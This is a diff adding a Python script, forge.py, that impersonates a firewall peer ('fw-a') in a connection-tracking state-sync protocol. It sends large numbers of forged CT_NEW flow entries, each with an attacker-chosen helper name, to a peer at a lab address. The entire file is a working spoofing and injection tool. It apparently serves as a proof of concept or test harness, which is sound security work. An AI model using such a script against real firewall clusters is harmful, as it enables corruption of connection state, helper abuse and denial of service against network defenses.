@@ -1,0 +1,39 @@
+#!/usr/bin/env python3
+"""forge.py FIRST-SEQ N HELPER: a stranger on the link who speaks as fw-a. Sends N TCP flows whose helper is HELPER, with %d
+replaced by the flow's number."""
+import socket
+import struct
+import sys
+import time
+
+PEER = ("10.99.0.2", 3780)
+
+
+def attr(kind, data):
+    return struct.pack(">HH", len(data) + 4, kind) + data + bytes(-len(data) % 4)
+
+
+def message(seq, flags, attrs):
+    """A CT_NEW of version 1."""
+    return struct.pack(">BBHI", 0x10, flags, 8 + len(attrs), seq) + attrs
+
+
+def flow(n, helper):
+    return b"".join((attr(0, socket.inet_aton(f"10.{80 + n // 50000}.0.1") + socket.inet_aton("10.9.9.9")),
+                     attr(5, struct.pack(">I", 0x8)), attr(2, bytes([6])), attr(3, struct.pack(">HH", 1000 + n % 50000, 21)),
+                     attr(4, bytes([3])), attr(6, struct.pack(">I", 600)), attr(27, helper.encode() + b"\0")))
+
+
+def main():
+    first, n, helper = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.bind(("10.99.0.1", 3780))
+        s.connect(PEER)
+        for i in range(n):
+            s.send(message(first + i, 0, flow(i, helper.replace("%d", str(i)))))
+            if i % 500 == 499:
+                time.sleep(0.05)  # what a socket buffer of the receiver takes
+    return 0
+
+
+sys.exit(main())
